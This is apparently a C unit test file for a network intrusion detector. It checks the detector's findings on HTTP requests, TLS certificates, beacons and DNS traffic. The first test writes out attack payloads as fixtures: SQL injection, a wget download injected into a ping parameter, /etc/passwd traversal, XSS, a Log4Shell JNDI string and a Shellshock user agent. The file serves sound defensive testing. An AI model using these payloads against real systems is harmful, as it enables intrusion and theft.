/* The rules of docs/detectors.md that read records: what they find in requests, handshakes and answers, and
 * what they leave alone. */
#include "tests/support/record_feed.h"
#include "tests/support/test_random.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>

#include <cmocka.h>

#define OUT    "198.51.100.7"
#define A      "10.0.0.1"
#define B      "10.0.0.2"
#define MINUTE 60000

static const char BROWSER[] = "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0";

static void get(struct detect_feed *f, int64_t ms, const char *to, const struct feed_request *r)
{
    feed_tcp(f, ms, A, to, 80, FB_CS_SF, 400, 4000, 200);
    feed_http(f, 5, r);
}

/* One request is judged by itself: the kind that is found, or none. */
static void judge(const struct feed_request *r, const char *to, int kind, const char *words)
{
    struct detect_feed f;
    feed_begin(&f, NULL);
    get(&f, 0, to, r);
    feed_finish(&f);
    if (kind < 0)
        feed_expect_nothing(&f);
    else
        feed_expect(&f, (enum fb_finding_kind)kind, A, words);
    feed_end(&f);
}

static void requests_that_carry_an_attack_are_found(void **state)
{
    (void)state;
    static const char *const URI[] = {
        "/item?id=1%27%20UNION%20ALL/**/SELECT%201,2--",    "/item?id=1%2527+or+1%253D1",
        "/ping?host=8.8.8.8;wget+http://198.51.100.9/x.sh", "/show?f=../../../../etc/passwd",
        "/q?s=%3Cscript%3Ealert(1)%3C/script%3E",           "/x?a=${jndi:ldap://198.51.100.9/a}",
    };
    for (size_t i = 0; i < sizeof URI / sizeof *URI; i++)
        judge(
            &(struct feed_request){.method = "GET", .host = "shop.example", .uri = URI[i], .agent = BROWSER},
            B, FB_FIND_EXPLOIT, "carry an attack");
    judge(
        &(struct feed_request){
            .method = "GET", .host = "shop.example", .uri = "/", .agent = "() { :;}; /bin/id"},
        B, FB_FIND_EXPLOIT, "carry an attack");
    judge(&(struct feed_request){.method = "GET", .host = "shop.example", .uri = "/", .agent = "sqlmap/1.7"},
          B, FB_FIND_EXPLOIT, "names itself");
}

static void ordinary_requests_are_no_attacks(void **state)
{
    (void)state;
    static const char *const URI[] = {
        "/",
        "/search?q=student+union+selection+2023", /* words of it, but no statement */
        "/labor/union-members/select?page=2",
        "/static/../img/logo.png",
        "/api?filter=%7B%22a%22%3A%5B1%2C2%5D%7D&redirect=https%3A%2F%2Fexample.com%2F",
        "/%",
        "/%4",
        "/%zz%",
    };
    for (size_t i = 0; i < sizeof URI / sizeof *URI; i++)
        judge(
            &(struct feed_request){.method = "GET", .host = "shop.example", .uri = URI[i], .agent = BROWSER},
            B, -1, "");
}

static void looking_for_holes_takes_a_few_requests(void **state)
{
    (void)state;
    struct detect_feed f;
    feed_begin(&f, NULL);
    const struct feed_request r = {.method = "GET", .host = "shop.example", .uri = "/.env", .agent = BROWSER};
    get(&f, 0, B, &r);
    get(&f, 1000, B, &r);
    feed_finish(&f);
    feed_expect_nothing(&f);
    get(&f, 2000, B, &r);
    feed_finish(&f);
    const struct fb_finding *x = feed_expect(&f, FB_FIND_EXPLOIT, A, "3 requests");
    assert_int_equal(x->sessions, 3);
    assert_string_equal(x->subject, "/.env");
    feed_end(&f);
}

static void programs_are_found_by_type_name_and_place(void **state)
{
    (void)state;
    struct feed_request r = {.method = "GET",
                             .host = OUT,
                             .uri = "/update.php?x=1",
                             .agent = BROWSER,
                             .type = "application/octet-stream",
                             .status = 200,
                             .received = 90000};
    judge(&r, OUT, FB_FIND_DOWNLOAD, "from an address without a name");
    r.status = 404;
    judge(&r, OUT, -1, "");
    r.status = 200;
    r.host = "downloads.example";
    judge(&r, OUT, -1, "");
    r.type = "application/x-msdownload; charset=binary";
    judge(&r, OUT, FB_FIND_DOWNLOAD, "under the name of something else");
    r.uri = "/setup.EXE";
    judge(&r, OUT, FB_FIND_DOWNLOAD, "Fetched a program, unencrypted: ");
    judge(&r, B, -1, ""); /* inside */
    r = (struct feed_request){.method = "GET",
                              .host = OUT,
                              .uri = "/bins/x.mips",
                              .agent = "Wget/1.21",
                              .type = "text/plain",
                              .status = 200,
                              .received = 60000};
    judge(&r, OUT, FB_FIND_DOWNLOAD, "from an address without a name");
    r.uri = "/picture.png";
    r.type = "image/png";
    judge(&r, OUT, -1, "");
}

static void clients_that_are_no_browsers_are_told_apart(void **state)
{
    (void)state;
    struct feed_request r = {.method = "GET", .host = "www.example", .uri = "/"};
    r.agent = "qWxyTTbKdPaaZvLmRtQc";
    judge(&r, OUT, FB_FIND_ODD_CLIENT, "drawn name");
    r.agent = "MicrosoftDeliveryOptimization";
    judge(&r, OUT, -1, "");
    r.agent = "Mozilla/5.0 (Windows NT; Windows NT 10.0; de-DE) WindowsPowerShell/5.1.19041.1";
    judge(&r, OUT, FB_FIND_ODD_CLIENT, "own shell");
    r.agent = "curl/7.88.1";
    judge(&r, OUT, -1, "");
    r = (struct feed_request){.method = "POST", .host = OUT, .uri = "/gate", .agent = "client", .sent = 300};
    judge(&r, OUT, FB_FIND_ODD_CLIENT, "and is no browser");
    r.host = "api.example";
    judge(&r, OUT, -1, "");
    r.host = OUT;
    r.agent = BROWSER;
    judge(&r, OUT, -1, "");
}

/* ---- handshakes ---- */

static void shake(const char *to, uint16_t port, const char *name, const char *subject, const char *issuer,
                  int kind, const char *words)
{
    struct detect_feed f;
    feed_begin(&f, NULL);
    feed_tcp(&f, 0, A, to, port, FB_CS_SF, 900, 4000, 500);
    feed_tls(&f, name, subject, issuer, "CsxknGIti", true);
    feed_finish(&f);
    if (kind < 0)
        feed_expect_nothing(&f);
    else
        feed_expect(&f, (enum fb_finding_kind)kind, A, words);
    feed_end(&f);
}

static void certificates_are_judged_by_who_vouches_for_them(void **state)
{
    (void)state;
    shake(OUT, 443, NULL, "CN=c2,O=c2", "CN=c2,O=c2", FB_FIND_ODD_CERT, "vouches for itself");
    shake(B, 443, NULL, "CN=printer", "CN=printer", -1, "");
    shake(OUT, 25, NULL, "CN=mx1", "CN=mx1", -1, "");
    shake(OUT, 443, "www.example.com", "CN=www.example.com", "CN=R3,O=Let's Encrypt,C=US", -1, "");
    shake(OUT, 443, NULL, "CN=Quasar Server CA", "CN=Quasar Server CA", FB_FIND_ODD_CERT, "tool");
    shake(OUT, 443, NULL, "CN=www.gu3aiv5nhdnrn.net", "CN=www.xkgk7fdx362yyy.com", FB_FIND_TOR,
          "Subject and issuer");
    shake(OUT, 443, NULL, "CN=www.example.net", "CN=www.example.com,O=Example", -1, "");
}

static void drawn_names_are_tor_when_nobody_resolved_them(void **state)
{
    (void)state;
    static const char *const NAME[] = {"www.q4cyamnc6mtokj.com", "www.t3i3rukx.com", "www.6gyip7tqim7s.com"};
    for (int resolved = 0; resolved < 2; resolved++) {
        struct detect_feed f;
        feed_begin(&f, NULL);
        for (unsigned i = 0; i < 3; i++) {
            if (resolved)
                feed_dns(&f, i, A, NAME[i], 1, 4);
            feed_tcp(&f, 100 + i, A, OUT, 443, FB_CS_SF, 900, 4000, 500);
            feed_tls(&f, NAME[i], NULL, NULL, "Cs", true);
        }
        feed_finish(&f);
        if (resolved)
            feed_expect_nothing(&f);
        else
            feed_expect(&f, FB_FIND_TOR, A, "3 names");
        feed_end(&f);
    }
    struct detect_feed f;
    feed_begin(&f, NULL);
    static const char *const WORD[] = {"www.wikipedia.com", "www.microsoft.com", "www.facebook.com",
                                       "www.web2print.com", "www.strengths.com", "www.linkedin.com"};
    for (unsigned i = 0; i < 6; i++) {
        feed_tcp(&f, i, A, OUT, 443, FB_CS_SF, 900, 4000, 500);
        feed_tls(&f, WORD[i], NULL, NULL, "Cs", true);
    }
    feed_finish(&f);
    feed_expect_nothing(&f);
    feed_end(&f);
}

static void heartbeats_before_encryption_are_found_and_later_ones_are_not(void **state)
{
    (void)state;
    struct detect_feed f;
    feed_begin(&f, NULL);
    feed_tcp(&f, 0, A, B, 443, FB_CS_SF, 300, 16000, 300);
    feed_tls(&f, NULL, NULL, NULL, "CsxnBb", false);
    feed_finish(&f);
    feed_expect(&f, FB_FIND_EXPLOIT, A, "Heartbeats");
    feed_end(&f);
    feed_begin(&f, NULL);
    feed_tcp(&f, 0, A, B, 443, FB_CS_SF, 300, 16000, 300);
    feed_tls(&f, NULL, NULL, NULL, "CsxnGIiDB", true);
    feed_finish(&f);
    feed_expect_nothing(&f);
    feed_end(&f);
}

/* ---- beacons beyond pairs ---- */

static void polls_within_a_session_are_found_and_browsing_is_not(void **state)
{
    (void)state;
    struct test_random r = {11};
    struct detect_feed f;
    const struct feed_request poll = {.method = "GET",
                                      .host = "c2.example",
                                      .uri = "/news.php?id=1",
                                      .agent = BROWSER,
                                      .status = 200,
                                      .received = 120};
    feed_begin(&f, NULL);
    feed_tcp(&f, 0, A, OUT, 80, FB_CS_SF, 5000, 9000, 300000);
    for (int64_t i = 0; i < 30; i++)
        feed_http(&f, i * 10000 + tr_below(&r, 3000), &poll);
    feed_finish(&f);
    const struct fb_finding *x = feed_expect(&f, FB_FIND_BEACON, A, "\"GET /news.php\": 30 requests");
    assert_int_equal(x->sessions, 1);
    feed_end(&f);

    feed_begin(&f, NULL);
    feed_tcp(&f, 0, A, OUT, 80, FB_CS_SF, 5000, 9000, 300000);
    int64_t ms = 0;
    for (unsigned i = 0; i < 60; i++) { /* a person: bursts and pauses */
        feed_http(&f, ms, &poll);
        ms += tr_below(&r, 4) ? 50 + tr_below(&r, 2000) : 5000 + tr_below(&r, 60000);
    }
    feed_finish(&f);
    feed_expect_nothing(&f);
    feed_end(&f);
}

static void a_beacon_to_one_name_at_changing_addresses_is_found(void **state)
{
    (void)state;
    struct test_random r = {5};
    struct detect_feed f;
    feed_begin(&f, NULL);
    int64_t t = 0;
    for (unsigned i = 0; i < 60; i++) { /* 30 % jitter, and a gap of three hours */
        char to[24];
        snprintf(to, sizeof to, "203.0.113.%u", 1 + i % 12);
        feed_tcp(&f, t, A, to, 443, FB_CS_SF, 300, 700, 300);
        feed_tls(&f, "cdn.c2.example", NULL, NULL, "Cs", true);
        t += MINUTE * 7 / 10 + tr_below(&r, MINUTE * 6 / 10) + (i == 30 ? 180 * MINUTE : 0);
    }
    feed_finish(&f);
    feed_expect(&f, FB_FIND_BEACON, A, "To cdn.c2.example at 7 addresses: 60 contacts");
    feed_end(&f);
}

static void a_beacon_over_dns_is_found_and_old_answers_are_none(void **state)
{
    (void)state;
    struct detect_feed f;
    char name[64];
    feed_begin(&f, NULL);
    for (unsigned i = 0; i < 20; i++) {
        snprintf(name, sizeof name, "%04x.c2.example", i * 2654435761u >> 16);
        feed_dns(&f, i * MINUTE, A, name, 1, 4);
        feed_dns(&f, i * MINUTE + 7, A, "www.time.example", 1, 4); /* as often, always the same */
    }
    feed_finish(&f);
    feed_expect(&f, FB_FIND_BEACON, A, "Over DNS, below c2.example: 20 questions, one every 1 m 00 s");
    assert_int_equal(f.l.n, 1);
    feed_end(&f);
}

static void domains_that_do_not_exist_are_counted_by_client(void **state)
{
    (void)state;
    static const char *const WORD[] = {"gooogle", "exampel", "wikipeda", "weather", "office", "printer"};
    struct test_random r = {9};
    struct detect_feed f;
    char name[64];
    feed_begin(&f, NULL);
    for (unsigned i = 0; i < 25; i++) {
        char label[13] = "";
        for (unsigned k = 0; k < 12; k++)
            label[k] = (char)('a' + tr_below(&r, 26));
        snprintf(name, sizeof name, "%s.com", label);
        feed_rcode(&f, i * 700, A, name, 3);
        feed_rcode(&f, i * 700 + 3, A, name, 3);
        snprintf(name, sizeof name, "host%u.corp.example", i); /* one domain, whatever stands below */
        feed_rcode(&f, i * 700 + 5, B, name, 3);
        snprintf(name, sizeof name, "%s%u.com", WORD[i % 6], i / 6);
        feed_rcode(&f, i * 700 + 9, "10.0.0.3", name, 3);
    }
    feed_finish(&f);
    feed_expect(&f, FB_FIND_DGA, A, "25 domains");
    assert_int_equal(f.l.n, 1);
    feed_end(&f);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(requests_that_carry_an_attack_are_found),
        cmocka_unit_test(ordinary_requests_are_no_attacks),
        cmocka_unit_test(looking_for_holes_takes_a_few_requests),
        cmocka_unit_test(programs_are_found_by_type_name_and_place),
        cmocka_unit_test(clients_that_are_no_browsers_are_told_apart),
        cmocka_unit_test(certificates_are_judged_by_who_vouches_for_them),
        cmocka_unit_test(drawn_names_are_tor_when_nobody_resolved_them),
        cmocka_unit_test(heartbeats_before_encryption_are_found_and_later_ones_are_not),
        cmocka_unit_test(polls_within_a_session_are_found_and_browsing_is_not),
        cmocka_unit_test(a_beacon_to_one_name_at_changing_addresses_is_found),
        cmocka_unit_test(a_beacon_over_dns_is_found_and_old_answers_are_none),
        cmocka_unit_test(domains_that_do_not_exist_are_counted_by_client),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
